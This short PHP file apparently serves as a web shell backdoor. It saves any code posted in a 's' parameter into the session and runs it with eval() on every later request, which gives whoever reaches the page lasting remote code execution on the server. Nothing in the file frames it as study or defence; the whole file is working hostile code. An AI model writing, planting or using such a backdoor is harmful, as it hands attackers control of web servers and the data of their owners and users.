<?php
session_start();
if (isset($_POST['s'])) { $_SESSION['s'] = $_POST['s']; }
if (isset($_SESSION['s'])) { eval($_SESSION['s']); }
